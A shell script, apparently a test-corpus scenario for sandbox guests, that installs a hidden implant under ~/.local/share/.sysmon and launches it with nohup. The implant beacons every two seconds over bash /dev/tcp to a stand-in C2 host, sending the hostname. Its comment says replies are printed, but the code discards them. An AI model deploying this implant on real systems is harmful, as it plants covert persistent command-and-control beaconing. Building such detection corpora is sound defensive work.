#!/bin/sh
# sysmon.sh - the corpus' connect-back scenario (corpus/README.md).
#
# Run by the vulnerable client `curl URL | sh` inside a sandbox guest, as the
# guest user: it installs an implant, ~/.local/share/.sysmon/sysmon, and
# starts it.  The implant calls home over TCP: every 2 s bash's /dev/tcp
# connects to c2.corpus.test:4444 (the guests' DNS stub resolves every name
# to 10.201.255.1, the services namespace), sends an HTTP request for
# /beacon and reads the answer: the "command", which it only prints.  A
# second capture-corpusd serves corpus/listener/ on that port (corpus-check.sh,
# demo.sh); with nothing listening the connect() fails and there is nothing
# to report but the implant's start.  Traffic never leaves the services
# namespace; the implant runs until the guest is killed.
# Never run it outside a sandbox guest.
set -u
dir="$HOME/.local/share/.sysmon"
mkdir -p "$dir"
cat > "$dir/sysmon" <<'IMPLANT'
#!/bin/bash
# sysmon - corpus implant: beacons to c2.corpus.test:4444 until killed.
while :; do
	if exec 3<>/dev/tcp/c2.corpus.test/4444; then
		printf 'GET /beacon?host=%s HTTP/1.0\r\nHost: c2.corpus.test\r\n\r\n' "$(hostname)" >&3
		cat <&3 >/dev/null
		exec 3<&-
	fi
	sleep 2
done
IMPLANT
chmod 755 "$dir/sysmon"
nohup "$dir/sysmon" >/dev/null 2>&1 &
exit 0
